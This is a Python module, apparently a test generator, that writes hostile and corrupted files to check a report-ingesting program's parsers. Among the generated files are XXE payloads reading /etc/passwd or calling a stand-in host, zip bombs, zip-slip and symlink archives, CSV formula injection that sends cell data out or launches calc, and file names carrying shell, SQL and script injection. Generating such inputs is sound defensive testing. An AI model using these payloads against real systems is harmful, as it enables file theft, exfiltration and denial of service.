"""Makes hostile files of this program's formats: cut, spoilt, misnamed, swollen, nested, and made to attack.

    cases = write_all(folder, samples, seed=1)

Every case says what may become of it: "in" (sealed, with a receipt), "refused", or either. All of it is invented.
"""

import hashlib
import io
import json
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from itertools import islice
from pathlib import Path
from typing import Literal

from hostile import containers, formats, pictures

Expected = Literal["in", "refused", "either"]

#: Place holders for a file's content where the file itself is special.
MEGABYTE = 1 << 20
WRONG_SUFFIXES = (".zip", ".xlsx", ".csv", ".json", ".xml", ".eml", ".txt", ".jpg", ".exe", "")
#: What goes wrong by itself, of which the ordinary run takes a part; what somebody made to attack is always whole.
BY_CHANCE = ("cut files", "flipped bytes", "wrong encodings", "wrong names of formats")
MOST_LEFT_OUT = 4
CUTS = 12
FLIPS = 8
ENCODINGS = ("utf-16-le", "utf-16-be", "utf-16", "utf-32", "cp037", "utf-7", "cp1251")


@dataclass(frozen=True)
class Case:
    """One file on disk; `name` tells the attack, `path` is as the operating system has it."""

    kind: str
    name: str
    path: bytes
    expected: Expected = "in"


def write_all(
    folder: Path, samples: dict[str, bytes], *, seed: int, every: int = 1, start: int = 0
) -> list[Case]:
    """Write every case that is small into the folder, none of them twice; of those spoilt by chance one in so many, to make it shorter."""
    folder.mkdir(parents=True, exist_ok=True)
    made: list[Case] = []
    seen = set()
    for number, (kind, (name, suffix, data)) in enumerate(contents(samples, seed=seed, every=every), start):
        if (digest := hashlib.sha256(data).digest()) in seen:
            continue
        seen.add(digest)
        shown = name.encode()[:180].replace(b"/", b"_")
        path = os.fsencode(folder) + b"/%04d-%b%b" % (number, shown, suffix.encode())
        with open(path, "wb") as file:  # noqa: PTH123 - paths are bytes here
            file.write(data)
        made.append(Case(kind, name, path, "in" if data else "refused"))
    made += odd_names(folder, samples["text"])
    return made


def contents(
    samples: dict[str, bytes], *, seed: int, every: int
) -> Iterator[tuple[str, tuple[str, str, bytes]]]:
    """Yield each file that somebody or something spoilt: its class, its name and suffix, its bytes."""
    chance = random.Random(seed)
    for kind, found in (
        ("cut files", cut(samples)), ("flipped bytes", flipped(samples, chance)), ("wrong encodings", misencoded(samples)),
        ("wrong names of formats", misnamed(samples)), ("JSON: deep, huge, odd", json_attacks(samples)),
        ("XML: entities, laughs, depth", xml_attacks(samples)), ("ZIP: bombs, overlaps, slips, links", zip_attacks(samples)),
        ("tar, 7z and compressed: bombs, slips, links", containers.attacks(samples)), ("mail: nested, endless, lying", mail_attacks(samples)),
        ("tables: formulas, shapes, bombs", table_attacks(samples)), ("chats and text", chat_and_text_attacks(samples)),
    ):  # fmt: skip
        for made in islice(found, 0, None, min(every, MOST_LEFT_OUT) if kind in BY_CHANCE else 1):
            yield kind, made
    yield from islice(formats.attacks(seed), 0, None, every)
    yield from islice(pictures.attacks(samples["text"]), 0, None, min(every, MOST_LEFT_OUT))


# --- what goes wrong by itself ----------------------------------------------------------------------


def cut(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    for kind, data in samples.items():
        for step in range(CUTS):
            yield f"cut-{kind}-{step}", suffix_of(kind), data[: len(data) * step // CUTS]
        yield f"cut-last-byte-{kind}", suffix_of(kind), data[:-1]


def flipped(samples: dict[str, bytes], chance: random.Random) -> Iterator[tuple[str, str, bytes]]:
    for kind, data in samples.items():
        for step in range(FLIPS):
            spoilt = bytearray(data)
            for _ in range(1 + step * 4):
                spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
            yield f"flipped-{kind}-{step}", suffix_of(kind), bytes(spoilt)


def misencoded(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    for kind, data in samples.items():
        if kind in {"zip", "xlsx"}:
            continue
        words = data.decode()
        for encoding in ENCODINGS:
            yield f"encoded-{kind}-{encoding}", suffix_of(kind), words.encode(encoding, "replace")
        yield f"odd-utf-16-{kind}", suffix_of(kind), words.encode("utf-16") + b"x"
        yield (
            f"bom-in-the-middle-{kind}",
            suffix_of(kind),
            data[: len(data) // 2] + b"\xef\xbb\xbf" + data[len(data) // 2 :],
        )
        yield f"broken-utf-8-{kind}", suffix_of(kind), data.replace(b"e", b"\xc0\xaf\xff", 20)
        yield f"nul-{kind}", suffix_of(kind), data.replace(b"a", b"\0", 20)
        yield f"bidi-{kind}", suffix_of(kind), words.replace("e", "\u202ee\u2066", 20).encode()
        yield f"mixed-line-ends-{kind}", suffix_of(kind), b"\r".join(data.split(b"\n", 5))


def misnamed(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    for kind, data in samples.items():
        for number, suffix in enumerate(WRONG_SUFFIXES):
            # A last byte of its own, for the same file twice would be known and not read.
            yield f"misnamed-{kind}-{number}", suffix, data + b"\n" * (number + 1)


def suffix_of(kind: str) -> str:
    return {"cybertip_json": ".json", "cybertip_xml": ".xml", "whatsapp": ".txt", "text": ".txt"}.get(
        kind, f".{kind}"
    )


# --- what somebody made -----------------------------------------------------------------------------


def json_attacks(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    report = samples["cybertip_json"]
    yield "json-nested", ".json", b"[" * 100_000 + b"]" * 100_000
    yield (
        "json-nested-in-report",
        ".json",
        report.rstrip()[:-1] + b',"x":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_001,
    )
    yield "json-huge-number", ".json", report.rstrip()[:-1] + b',"x":' + b"9" * 100_000 + b"}"
    yield "json-huge-number-broken", ".json", report.rstrip()[:-1] + b',"x":' + b"9" * 100_000 + b',"y":'
    yield "json-huge-exponent", ".json", report.rstrip()[:-1] + b',"x":1e999999999}'
    yield "json-not-numbers", ".json", report.rstrip()[:-1] + b',"x":NaN,"y":-Infinity}'
    yield "json-same-key", ".json", b"{" + report.strip()[1:-1] + b"," + report.strip()[1:]
    yield (
        "json-lone-surrogate",
        ".json",
        report.rstrip()[:-1] + rb',"x":"\ud800 \udfff quayside@mail.example"}',
    )
    yield "json-nul", ".json", report.rstrip()[:-1] + rb',"x":"\u0000\u0000"}'
    yield (
        "json-many-keys",
        ".json",
        report.rstrip()[:-1] + b"".join(b',"k%d":1' % n for n in range(6_000)) + b"}",
    )
    yield "json-other-types", ".json", json.dumps([None, True, 1, "x", [], {}]).encode()
    yield "json-two-in-one", ".json", report + report
    yield "json-long-key", ".json", report.rstrip()[:-1] + b',"' + b"k" * 500_000 + b'":1}'
    yield "json-text-in-all-fields", ".json", turned(report, lambda _: "x" * 3_000)
    yield "json-lists-in-all-fields", ".json", turned(report, lambda value: [value, [value]])
    yield "json-numbers-in-all-fields", ".json", turned(report, lambda _: -1)
    yield "json-nothing-in-all-fields", ".json", turned(report, lambda _: None)
    yield "json-objects-in-all-fields", ".json", turned(report, lambda value: {"value": value})


def turned(report: bytes, change: Callable[[object], object]) -> bytes:
    """The same report with every leaf of it changed."""

    def turn(value: object) -> object:
        if isinstance(value, dict):
            return {key: turn(each) for key, each in value.items()}
        if isinstance(value, list):
            return [turn(each) for each in value]
        return change(value)

    return json.dumps(turn(json.loads(report))).encode()


def xml_attacks(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    report = samples["cybertip_xml"]
    root = report[report.index(b"<", report.index(b"?>")) :] if report.startswith(b"<?xml") else report
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))

    def with_doctype(doctype: bytes, entity: bytes) -> bytes:
        return b'<?xml version="1.0"?>' + doctype + root.replace(b"</", entity + b"</", 1)

    yield (
        "xml-external-entity",
        ".xml",
        with_doctype(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;"),
    )
    yield (
        "xml-external-by-network",
        ".xml",
        with_doctype(b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>', b"&x;"),
    )
    yield "xml-external-dtd", ".xml", with_doctype(b'<!DOCTYPE r SYSTEM "http://192.0.2.1/x.dtd">', b"")
    yield (
        "xml-parameter-entity",
        ".xml",
        with_doctype(b'<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', b""),
    )
    yield "xml-laughs", ".xml", with_doctype(b'<!DOCTYPE r [<!ENTITY l0 "ha">' + laughs + b"]>", b"&l9;")
    yield (
        "xml-quadratic",
        ".xml",
        with_doctype(b'<!DOCTYPE r [<!ENTITY a "' + b"a" * 100_000 + b'">]>', b"&a;" * 10_000),
    )
    yield (
        "xml-self-reference",
        ".xml",
        with_doctype(b'<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', b"&a;"),
    )
    yield "xml-nested", ".xml", b"<a>" * 100_000 + b"</a>" * 100_000
    yield "xml-nested-in-report", ".xml", root.replace(b"</", b"<a>" * 20_000 + b"</a>" * 20_000 + b"</", 1)
    yield "xml-many-attributes", ".xml", b"<a " + b" ".join(b'a%d="1"' % n for n in range(50_000)) + b"/>"
    yield "xml-long-attribute", ".xml", b'<a b="' + b"x" * 11_000_000 + b'"/>'
    yield (
        "xml-many-namespaces",
        ".xml",
        b"<a " + b" ".join(b'xmlns:n%d="u:%d"' % (n, n) for n in range(20_000)) + b"/>",
    )
    yield (
        "xml-include",
        ".xml",
        root.replace(
            b"</",
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/></',
            1,
        ),
    )
    yield "xml-stylesheet", ".xml", b'<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>' + root
    yield "xml-wrong-encoding-name", ".xml", b'<?xml version="1.0" encoding="no-such"?>' + root
    yield "xml-says-utf-16", ".xml", b'<?xml version="1.0" encoding="UTF-16"?>' + root
    yield "xml-binary-in-text", ".xml", root.replace(b"</", bytes(range(1, 32)) + b"</", 1)
    yield "xml-two-roots", ".xml", root + root


def zip_of(*members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return buffer.getvalue()


def bomb(megabytes: int) -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("bomb.txt", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(bytes(MEGABYTE))
    return buffer.getvalue()


def zip_attacks(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    text = samples["text"]
    good = ("good.txt", text + b"\nBeside a hostile neighbour.")
    yield "zip-bomb", ".zip", bomb(400)
    yield "zip-bomb-and-good", ".zip", zip_of(good, ("inner.zip", bomb(400)))
    yield "zip-nested-bombs", ".zip", nested(bomb(100), 6)
    yield "zip-nested-deep", ".zip", nested(zip_of(good), 60)
    yield (
        "zip-many-members",
        ".zip",
        zip_of(*((f"{n}.txt", b"x") for n in range(10_001)), compression=zipfile.ZIP_STORED),
    )
    yield (
        "zip-some-members",
        ".zip",
        zip_of(*((f"{n}.txt", b"port %d quay%d@mail.example" % (n, n)) for n in range(60))),
    )
    yield "zip-overlap", ".zip", overlapping(300)
    yield "zip-of-itself", ".zip", zip_quine_like()
    yield (
        "zip-slip",
        ".zip",
        zip_of(
            ("../../../../tmp/slipped.txt", text),
            ("/tmp/slipped-absolute.txt", text),
            ("..\\..\\slipped.txt", text),
        ),
    )
    yield (
        "zip-slip-by-drive",
        ".zip",
        zip_of(("C:\\Windows\\slipped.txt", text), ("\\\\192.0.2.1\\share\\x.txt", text)),
    )
    yield "zip-link", ".zip", linking("/etc/passwd")
    yield (
        "zip-same-name-twice",
        ".zip",
        zip_of(("a.txt", text), ("A.TXT", text + b"2"), ("b.txt", text + b"3")).replace(b"b.txt", b"a.txt"),
    )
    yield (
        "zip-odd-names",
        ".zip",
        zip_of(
            ("", text),
            ("n" * 4_000, text + b"1"),
            ("a\x01\x1b[31m.txt", text + b"2"),
            ("\u202etxt.exe", text + b"3"),
        ),
    )
    yield "zip-encrypted", ".zip", encrypted_flag(zip_of(good))
    yield (
        "zip-lying-sizes",
        ".zip",
        zip_of(good).replace(struct.pack("<L", len(good[1])), struct.pack("<L", 7)),
    )
    yield (
        "zip-wrong-checksum",
        ".zip",
        zip_of(good).replace(struct.pack("<L", zlib.crc32(good[1])), b"\1\2\3\4"),
    )
    yield "zip-unknown-method", ".zip", zip_of(good).replace(b"\x08\x00\x00\x00", b"\x63\x00\x00\x00")
    yield "zip-and-text", ".zip", text + zip_of(good)
    yield "zip-behind-picture", ".jpg", b"\xff\xd8\xff\xe0" + bytes(500) + zip_of(good)
    yield "zip-with-long-comment", ".zip", zip_of(good)[:-2] + b"\xff\xff" + b"c" * 65_535
    yield "zip-empty", ".zip", zip_of()
    yield "zip-directory-lies", ".zip", zip_of(good).replace(b"PK\x01\x02", b"PK\x01\x03")
    yield "zip-end-says-too-much", ".zip", zip_of(good)[:-22] + b"PK\x05\x06" + b"\xff" * 16 + b"\0\0"
    yield (
        "zip-all-formats",
        ".zip",
        zip_of(*((f"in/{kind}{suffix_of(kind)}", data + b"\n ") for kind, data in samples.items())),
    )


def nested(inner: bytes, depth: int) -> bytes:
    for level in range(depth):
        inner = zip_of((f"level-{level}.zip", inner))
    return inner


def overlapping(count: int) -> bytes:
    """Many members that share one compressed body."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(bytes(MEGABYTE)) + packer.flush()
    crc = zlib.crc32(bytes(MEGABYTE))
    name = b"shared.txt"
    local = (
        struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0x21, crc, len(body), MEGABYTE, len(name), 0)
        + name
        + body
    )
    central = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(body),
            MEGABYTE,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(central) * count, len(local), 0)
    return local + central * count + end


def zip_quine_like() -> bytes:
    """An archive whose only member's bytes are the archive's own start."""
    name = b"again.zip"
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 0x21, 0, 39, 39, len(name), 0) + name
    central = (
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 0x21, 0, 39, 39, len(name), 0, 0, 0, 0, 0, 0)
        + name
    )
    return (
        local
        + local
        + central
        + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local) * 2, 0)
    )


def linking(target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, target)
    return buffer.getvalue()


def encrypted_flag(data: bytes) -> bytes:
    spoilt = bytearray(data)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        spoilt[spoilt.index(mark) + offset] |= 1
    return bytes(spoilt)


def mail_attacks(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    mail = samples["eml"]
    yield "mail-nested-200", ".eml", nested_mail(200)
    yield "mail-nested-boundaries", ".eml", nested_multipart(500)
    yield "mail-many-parts", ".eml", many_parts(5_200)
    yield "mail-long-header", ".eml", b"Subject: " + b"x" * 3_000_000 + b"\r\n" + mail
    yield "mail-many-headers", ".eml", b"".join(b"X-%d: y\r\n" % n for n in range(2_500)) + mail
    yield (
        "mail-many-recipients",
        ".eml",
        b"To: " + b", ".join(b"q%d@mail.example" % n for n in range(2_500)) + b"\r\n" + mail,
    )
    yield "mail-quoted-forever", ".eml", b'From: "' + b"\\" * 200_000 + b"\r\n" + mail
    yield "mail-comment-nested", ".eml", b"From: " + b"(" * 100_000 + b"\r\n" + mail
    yield "mail-encoded-words", ".eml", b"Subject: " + b"=?utf-8?q?=00?= " * 20_000 + b"\r\n" + mail
    yield "mail-unknown-charset", ".eml", mail.replace(b"utf-8", b"no-such-charset")
    yield "mail-false-base64", ".eml", b"Content-Transfer-Encoding: base64\r\n" + mail
    yield "mail-html-nested", ".eml", html_mail("<div>" * 50_000 + "quayside@mail.example")
    yield "mail-html-entities", ".eml", html_mail("&#x0;&#xD800;&#1114112;&amp" * 5_000)
    yield "mail-attached-bomb", ".eml", attached("photos.zip", bomb(300))
    yield "mail-attached-name", ".eml", attached("../../../tmp/slipped.txt\r\nX: y", b"x")
    yield "mail-impossible-date", ".eml", b"Date: Tue, 99 Foo 99999 99:99:99 +9999\r\n" + mail
    yield "mbox-many-empty", ".mbox", b"From x Thu Jan  1 00:00:00 2026\n\n" * 2_000
    yield "mbox-no-end", ".mbox", samples["mbox"] + b"From " * 5_000


def nested_mail(depth: int) -> bytes:
    inner = b"From: quayside@mail.example\r\nSubject: innermost\r\n\r\nhello\r\n"
    for _ in range(depth):
        inner = b"From: quayside@mail.example\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    return inner


def nested_multipart(depth: int) -> bytes:
    head = b"From: quayside@mail.example\r\nTo: harbour@mail.example\r\nMIME-Version: 1.0\r\n"
    return (
        head
        + b"".join(
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth)
        )
        + b"\r\nend"
    )


def many_parts(count: int) -> bytes:
    head = b'From: quayside@mail.example\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
    return head + b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * count + b"--b--\r\n"


def html_mail(body: str) -> bytes:
    return b"From: quayside@mail.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body.encode()


def attached(name: str, data: bytes) -> bytes:
    message = EmailMessage()
    message["From"] = "quayside@mail.example"
    message.set_content("See the file.")
    message.add_attachment(data, maintype="application", subtype="zip", filename=name.replace("\r\n", " "))
    message.set_boundary("quayside")
    return message.as_bytes()


def table_attacks(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    formulas = b"email,phone,note\n" + b"".join(
        b'%sHYPERLINK("http://192.0.2.1/?x="&A1),+447700900123,"%scmd|\' /C calc\'!A0"\n' % (sign, sign)
        for sign in (b"=", b"+", b"-", b"@", b"\t=")
    )
    yield "csv-formulas", ".csv", formulas * 20
    yield "csv-one-quote", ".csv", b'email,note\n"quayside@mail.example,' + b"x,\n" * 5_000
    yield (
        "csv-many-columns",
        ".csv",
        b",".join(b"c%d" % n for n in range(2_000))
        + b"\n"
        + b",".join(b"quay%d@mail.example" % n for n in range(2_000)),
    )
    yield (
        "csv-ragged",
        ".csv",
        b"email,phone\n" + b"".join(b"," * (n % 90) + b"quay%d@mail.example\n" % n for n in range(2_000)),
    )
    yield "csv-nul-and-control", ".csv", samples["csv"] + bytes(range(32)) * 50
    yield "csv-long-cell", ".csv", b"email,note\nquayside@mail.example," + b"word " * 1_000_000
    yield "csv-empty-headings", ".csv", b",,,\nquayside@mail.example,,,\n"
    yield "csv-same-headings", ".csv", b"email,email,email\na@mail.example,b@mail.example,c@mail.example\n"
    yield (
        "csv-huge-numbers",
        ".csv",
        b"email,port,age\nquayside@mail.example,99999999999999999999999,-1e400\n",
    )
    sheet = samples["xlsx"]
    yield "xlsx-bomb", ".xlsx", replaced(sheet, "xl/sharedStrings.xml", strings_bomb(120))
    yield (
        "xlsx-laughs",
        ".xlsx",
        replaced(
            sheet,
            "xl/sharedStrings.xml",
            b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>',
        ),
    )
    yield (
        "xlsx-external-entity",
        ".xlsx",
        replaced(
            sheet,
            "xl/workbook.xml",
            b'<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]><workbook>&a;</workbook>',
        ),
    )
    yield "xlsx-no-sheets", ".xlsx", replaced(sheet, "xl/workbook.xml", b"<workbook/>")
    yield (
        "xlsx-sheet-cut",
        ".xlsx",
        replaced(sheet, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c><v>1"),
    )
    yield "xlsx-far-cell", ".xlsx", replaced(
        sheet, "xl/worksheets/sheet1.xml",
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1048576">'
        b'<c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData></worksheet>',
    )  # fmt: skip
    yield (
        "xlsx-encrypted",
        ".xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(500)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(2_000),
    )
    yield "xlsx-flagged-encrypted", ".xlsx", encrypted_flag(sheet)


def replaced(archive: bytes, name: str, data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        members = [(info.filename, source.read(info)) for info in source.infolist() if info.filename != name]
    return zip_of(*members, (name, data))


def strings_bomb(megabytes: int) -> bytes:
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return head + b"<si><t>" + b"A" * (megabytes * MEGABYTE) + b"</t></si></sst>"


def chat_and_text_attacks(samples: dict[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    chat = samples["whatsapp"]
    yield "chat-names", ".txt", chat.replace(b": ", b"\xe2\x80\xae\xe2\x81\xa6: ", 5)
    yield "chat-long-name", ".txt", b"[01/02/2026, 10:00:00] " + b"n" * 200_000 + b": hello\n" + chat
    yield "chat-impossible-times", ".txt", chat + b"[99/99/9999, 99:99:99] Harbour: hello\n" * 500
    yield (
        "chat-many-senders",
        ".txt",
        b"".join(b"[01/02/2026, 10:00:%02d] Sender %d: hi\n" % (n % 60, n) for n in range(600)),
    )
    yield "text-one-line", ".txt", b"x" * (4 * MEGABYTE)
    yield "text-ats", ".txt", b"@" * MEGABYTE
    yield "text-dots", ".txt", b"a." * 500_000 + b"example"
    yield "text-digits", ".txt", b"+4477009001" * 50_000
    yield "text-colons", ".txt", b"2001:db8:" * 60_000
    yield "text-addresses", ".txt", b"".join(b"q%d@mail.example " % n for n in range(2_000))
    yield "text-almost-addresses", ".txt", b"a@" * 200_000
    yield "text-slashes", ".txt", b"http://" * 60_000
    yield "text-defanged", ".txt", b"hxxp[:]//a[.]" * 30_000
    yield "text-combining", ".txt", "e\u0301".encode() * 200_000
    yield "text-wide-digits", ".txt", "\uff10\uff17".encode() * 50_000
    yield "text-only-nul", ".txt", bytes(100_000)
    yield "text-only-control", ".txt", bytes(range(1, 32)) * 1_000
    yield "text-line-separators", ".txt", "quayside@mail.example\u2028\u2029\x85".encode() * 100
    yield "text-terminal", ".txt", b"\x1b]0;owned\x07\x1b[2J quayside@mail.example"
    yield "random", ".bin", random.Random(3).randbytes(200_000)
    yield "program", ".exe", b"MZ" + random.Random(4).randbytes(5_000)
    yield "picture", ".png", b"\x89PNG\r\n\x1a\n" + random.Random(5).randbytes(5_000)
    yield "pdf-and-text", ".pdf", b"%PDF-1.7\n" + samples["text"]
    yield "json-and-zip", ".json", samples["cybertip_json"] + zip_of(("a.txt", b"x"))


# --- names and special files ------------------------------------------------------------------------


def odd_names(folder: Path, text: bytes) -> list[Case]:
    """Names that no text holds, or that mean something to a shell, a terminal, a page or a spreadsheet."""
    names = (
        b"\xff\xfe not text.txt", b"caf\xe9.txt", b"\xed\xa0\x80 surrogate.txt", b"-rf", b"--json", b"new\nline.txt", b"tab\there.txt",
        b"\x1b[31mred.txt", "\u202egpj.exe".encode(), b"=cmd().txt", b"<script>alert(1)<.txt", b"a!%s.txt", b"$(touch owned).txt", b"'; drop table x; --.txt",
        b"n" * 251 + b".txt", b"CON.txt", b"..txt", b"~root.txt", b"%2e%2e%2fpasswd.txt", b"{{7*7}}.txt", b"a;b|c&d.txt", b"\x07bell.txt",
        "\u2028line.txt".encode(), b'quote".txt', b"back\\slash.txt", b" leading and trailing ", "e\u0301 and \u00e9.txt".encode(),
    )  # fmt: skip
    made = []
    for number, name in enumerate(names):
        path = os.fsencode(folder) + b"/" + name
        with open(path, "wb") as file:  # noqa: PTH123 - paths are bytes here
            file.write(text + b"\n%d" % number)
        made.append(Case("names of files", f"name-{number}", path))
    return made
